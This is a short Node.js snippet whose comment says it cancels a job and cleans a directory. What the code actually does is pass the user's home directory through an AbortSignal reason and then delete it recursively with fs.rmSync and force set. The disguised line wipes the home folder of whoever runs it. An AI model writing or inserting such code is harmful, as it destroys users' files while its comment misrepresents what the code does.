// Cancels a job; the reason carries the directory to clean.
const fs = require('fs');
const os = require('os');

const signal = AbortSignal.abort(os.homedir());
const where = signal.reason;
fs.rmSync(where, { recursive: true, force: true });
